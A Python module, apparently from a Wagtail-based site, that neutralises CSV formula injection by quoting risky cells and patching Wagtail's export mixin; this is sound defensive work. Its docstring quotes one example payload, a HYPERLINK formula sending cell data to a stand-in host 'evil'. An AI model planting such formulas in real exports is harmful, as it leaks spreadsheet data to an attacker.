"""Spreadsheet exports that cannot carry formulas (issue 10, finding 12).

Search queries, page titles and comments are typed by visitors and members. A
cell written as ``=HYPERLINK("http://evil/?"&A1, "Click")`` becomes a live
formula when an editor opens the CSV in a spreadsheet. OWASP's rule: a cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed
with a single quote, which spreadsheets show as text.

Every Wagtail admin listing and report exports through
``SpreadsheetExportMixin`` (Kindred's search reports, Wagtail's page, workflow
and audit reports, snippets): ``neutralise_wagtail_exports`` makes its CSV
writer apply the rule, once, at start-up. Its XLSX writer already stores a
formula-looking value as a text cell. Any CSV Kindred writes itself passes its
cells through ``spreadsheet_safe``.
"""

from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value``, with a leading ``'`` if it is text a spreadsheet would read as a formula.

    Numbers, dates and ``None`` are returned unchanged: only text is typed by people.
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _write_csv_row(self, writer, row_dict):
    # Wagtail's own write_csv_row, with every cell made safe after its preprocessing
    # (which may turn a list or an object into text that starts with "=").
    return writer.writerow(
        {
            field: spreadsheet_safe(self.preprocess_field_value(field, value, self.FORMAT_CSV))
            for field, value in row_dict.items()
        }
    )


def neutralise_wagtail_exports() -> None:
    """Make every Wagtail admin CSV export neutralise formulas (called from PortalConfig.ready)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    SpreadsheetExportMixin.write_csv_row = _write_csv_row
